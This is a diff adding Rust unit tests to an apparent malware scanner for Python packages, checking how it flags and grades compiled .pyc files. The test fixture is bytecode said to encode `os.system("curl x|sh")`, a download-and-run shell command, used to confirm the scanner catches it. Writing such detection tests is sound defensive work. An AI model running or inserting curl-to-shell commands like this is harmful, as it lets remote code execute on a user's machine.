@@ -534,3 +534,84 @@ fn chunk_str(text: &str, size: usize) -> impl Iterator<Item = (usize, &str)> {
         Some(chunk)
     })
 }
+
+#[cfg(test)]
+mod bytecode_tests {
+    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+    use super::*;
+
+    /// A CPython 3.11 `.pyc` of `import os\nos.system("curl x|sh")`: magic 3495, 12 header bytes.
+    fn pyc() -> Vec<u8> {
+        let mut data = vec![0xa7, 0x0d, b'\r', b'\n'];
+        data.extend([0u8; 12]);
+        data.extend(
+            decode::decode(decode::Codec::Hex, b"630000000000000000000000000300000000000000f32e0000009700640064016c005a00020065006a0100000000000000006402a6010000ab0100000000000000000100640153002903e9000000004e7a096375726c20787c73682902da026f73da0673797374656da900f300000000da0166fa083c6d6f64756c653e7207000000010000007326000000f003010101d80009800980098009d8000980028409882bd10016d40016d00016d00016d000167205000000").unwrap(),
+        );
+        data
+    }
+
+    #[test]
+    fn pyc_members_are_analysed_as_their_module() {
+        let path = "pkg/__pycache__/__init__.cpython-311.pyc";
+        assert!(is_python_member(path, &pyc()));
+        assert!(!is_python_member("pkg/x.pyc", b"not bytecode"));
+        let analysis = analyze_python(path, &pyc(), &AnalysisOptions::default());
+        assert_eq!(analysis.role, FileRole::PackageInit);
+        let spawn = analysis
+            .findings
+            .iter()
+            .find(|f| f.rule == "WH120")
+            .expect("os.system in the bytecode");
+        assert_eq!((spawn.line, spawn.context), (2, ExecContext::Import));
+        assert!(spawn.severity >= 0.85);
+        let test = analyze_python(
+            "pkg/tests/__pycache__/t.cpython-311.pyc",
+            &pyc(),
+            &AnalysisOptions::default(),
+        );
+        assert!(
+            test.findings
+                .iter()
+                .all(|f| f.context == ExecContext::TestOrDocs)
+        );
+        // A truncated .pyc is an error note, never a crash.
+        let cut = pyc();
+        let cut = cut.get(..40).unwrap();
+        let broken = analyze_python(path, cut, &AnalysisOptions::default());
+        assert!(broken.findings.is_empty() && !broken.errors.is_empty());
+    }
+
+    #[test]
+    fn bytecode_without_source_is_modest_evidence() {
+        assert_eq!(
+            bytecode_source_path("pkg/__pycache__/mod.cpython-311.pyc").as_deref(),
+            Some("pkg/mod.py")
+        );
+        assert_eq!(
+            bytecode_source_path("pkg/mod.pyc").as_deref(),
+            Some("pkg/mod.py")
+        );
+        assert_eq!(
+            bytecode_source_path("__pycache__/m.cpython-37.pyc").as_deref(),
+            Some("m.py")
+        );
+        assert_eq!(bytecode_source_path("pkg/mod.py"), None);
+        let mut analysis = analyze_python("pkg/mod.pyc", &pyc(), &AnalysisOptions::default());
+        note_bytecode_without_source(&mut analysis);
+        let note = analysis
+            .findings
+            .iter()
+            .find(|f| f.has_tag("bytecode-only"))
+            .unwrap();
+        assert_eq!(note.rule, "WH190");
+        assert!((0.2..=0.4).contains(&note.severity));
+        let mut test = analyze_python("pkg/tests/x.pyc", &pyc(), &AnalysisOptions::default());
+        note_bytecode_without_source(&mut test);
+        assert!(
+            test.findings
+                .iter()
+                .filter(|f| f.has_tag("bytecode-only"))
+                .all(|f| f.severity < 0.1)
+        );
+    }
+}
